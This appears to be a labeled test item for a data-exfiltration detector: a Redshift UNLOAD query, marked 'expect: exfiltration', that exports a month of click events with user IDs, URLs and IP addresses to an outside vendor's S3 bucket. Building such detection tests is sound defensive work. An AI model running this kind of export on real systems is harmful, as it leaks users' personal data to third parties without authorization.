-- Redshift: ship last month's click events to the attribution vendor bucket
-- expect: exfiltration
UNLOAD ('SELECT user_id, session_id, event_name, url, ip_address, event_ts
         FROM analytics.click_events
         WHERE event_ts >= DATEADD(month, -1, DATE_TRUNC(''month'', GETDATE()))')
TO 's3://attribution-vendor-ingest/acme/click_events_'
IAM_ROLE 'arn:aws:iam::123456789012:role/redshift-unload'
FORMAT AS PARQUET
ALLOWOVERWRITE;
